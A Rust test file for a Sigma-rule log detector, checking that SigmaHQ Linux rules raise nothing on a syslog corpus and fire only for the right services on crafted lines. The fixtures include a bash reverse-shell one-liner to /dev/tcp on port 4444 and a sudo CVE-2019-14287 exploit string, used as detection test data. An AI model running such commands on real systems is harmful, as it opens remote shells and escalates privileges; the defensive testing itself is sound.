//! SigmaHQ's Linux rules over syslog events: they fire where the text is
//! there, and service-specific rules only on lines of their service.
//!
//! The rules and the corpus live outside the repository, in `../shared` next
//! to the workspace, or wherever `VIGIL_SHARED` points.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use vigil_event::Event;
use vigil_sigma::{RuleSet, RuleSetBuilder, RuleSetOptions};
use vigil_sources::{discover, read_file};

/// The shared data folder's `{part}`, or `None` when it is absent outside CI.
fn shared(part: &str) -> Option<PathBuf> {
    vigil_testdata::shared_dir(part)
}

/// SigmaHQ's `rules/linux` (210 rules: builtin syslog keyword rules, auditd,
/// process_creation, …), and any further rule files named.
fn linux_rules(extra: &[&str]) -> Option<RuleSet> {
    let mut builder = RuleSetBuilder::new(RuleSetOptions::default());
    builder.add_path(&shared("sigma/rules/linux")?);
    for file in extra {
        builder.add_path(&shared(file)?);
    }
    let (rules, report) = builder.build();
    assert!(report.failed.is_empty(), "{:?}", report.failed);
    assert!(report.rules >= 200, "{} rules", report.rules);
    Some(rules)
}

/// Every event read from the files under `folder`.
fn events(folder: &Path) -> Vec<Event> {
    let (files, issues) = discover(&[folder.to_path_buf()]);
    assert!(issues.is_empty(), "{issues:?}");
    let mut events = Vec::new();
    for file in &files {
        let mut problems = Vec::new();
        read_file(file, &mut |e| events.push(e), &mut |i| problems.push(i)).unwrap();
        assert!(problems.is_empty(), "{problems:?}");
    }
    events
}

/// `(line, rule title)` of every detection, checking that the prefilter
/// changes nothing.
fn detections(rules: &RuleSet, events: &[Event]) -> BTreeSet<(String, String)> {
    let mut found = BTreeSet::new();
    for event in events {
        let (mut fast, mut slow) = (Vec::new(), Vec::new());
        rules.detect(event, &mut fast);
        rules.detect_unindexed(event, &mut slow);
        let titles = |d: &[vigil_event::Detection]| -> Vec<String> {
            d.iter().map(|d| d.rule_title.to_string()).collect()
        };
        assert_eq!(titles(&fast), titles(&slow));
        let file = Path::new(&*event.source)
            .file_name()
            .unwrap()
            .to_string_lossy()
            .to_string();
        for title in titles(&fast) {
            found.insert((format!("{file} {}", event.position), title));
        }
    }
    found
}

/// No rule fires on the corpus, and none should. Checked by hand: for every
/// search of every builtin rule, no line holds all the parts of any of its
/// keywords (case-insensitively, split at `*`), except the filter of "File
/// Copy" (`@`, `:`), whose tools (`scp `, `rsync `, `sftp `) occur nowhere.
/// The nearest miss is `isapnp: No Plug & Play device found` (Linux line
/// 1998): the ClamAV rule needs `Trojan…FOUND` and only from clamd. The auditd
/// and process_creation rules test fields (`type`, `Image`, …) that syslog
/// lines do not have. The 1,500 failed logons are no single-event detection:
/// they are a correlation's to count (see `tests/syslog.rs`).
#[test]
fn the_linux_corpus_raises_nothing() {
    let (Some(rules), Some(corpus)) = (linux_rules(&[]), shared("corpus/linux")) else {
        return;
    };
    let events = events(&corpus);
    assert_eq!(events.len(), 4000);
    assert_eq!(detections(&rules, &events), BTreeSet::new());
}

/// Lines written to fire one rule each, and the same text from the wrong
/// program, which must not fire a service-specific rule.
#[test]
fn service_rules_apply_to_their_programs_only() {
    let sudo_rule = "sigma/rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml";
    let Some(rules) = linux_rules(&[sudo_rule]) else {
        return;
    };
    let folder = tempfile::tempdir().unwrap();
    let lines = [
        // 1–2: `service: sshd` keyword, from sshd and from the kernel.
        "Mar  1 10:00:00 web1 sshd[100]: Corrupted MAC on input. [preauth]",
        "Mar  1 10:00:01 web1 kernel: Corrupted MAC on input",
        // 3–5: `service: cron` keyword `REPLACE`, from crontab, CRON and sshd.
        "Mar  1 10:00:02 web1 crontab[200]: (root) REPLACE (root)",
        "Mar  1 10:00:03 web1 CRON[201]: (root) REPLACE (root)",
        "Mar  1 10:00:04 web1 sshd[100]: Invalid user REPLACE from 10.0.0.9",
        // 6–7: `service: clamav`, from clamd and from a mail filter.
        "Mar  1 10:00:05 web1 clamd[300]: /tmp/x.exe: Win.Trojan.Agent-1 FOUND",
        "Mar  1 10:00:06 web1 amavis[301]: /tmp/x.exe: Win.Trojan.Agent-1 FOUND",
        // 8: `service: syslog` applies to every line, here systemd's.
        "Mar  1 10:00:07 web1 systemd[1]: Stopping iptables firewall...",
        // 9–10: guacamole and vsftpd.
        "Mar  1 10:00:08 web1 guacd[400]: User joined connection (2 users now present)",
        "Mar  1 10:00:09 web1 vsftpd[500]: Connection refused: too many sessions for this address.",
        // 11: sudo's USER field as the CVE-2019-14287 rule names it.
        "Mar  1 10:00:10 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id",
        // 12: product-wide rules apply to any program.
        "Mar  1 10:00:11 web1 bash[600]: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ];
    std::fs::write(folder.path().join("auth.log"), lines.join("\n")).unwrap();
    let found = detections(&rules, &events(folder.path()));
    let expected: BTreeSet<(String, String)> = [
        (1, "Suspicious OpenSSH Daemon Error"),
        (3, "Modifying Crontab"),
        (4, "Modifying Crontab"),
        (6, "Relevant ClamAV Message"),
        (8, "Disabling Security Tools - Builtin"),
        (9, "Guacamole Two Users Sharing Session Anomaly"),
        (10, "Suspicious VSFTPD Error Messages"),
        (11, "Sudo Privilege Escalation CVE-2019-14287 - Builtin"),
        (12, "Suspicious Reverse Shell Command Line"),
        (12, "Suspicious Use of /dev/tcp"),
    ]
    .into_iter()
    .map(|(line, title)| (format!("auth.log line {line}"), title.to_string()))
    .collect();
    assert_eq!(found, expected);
}
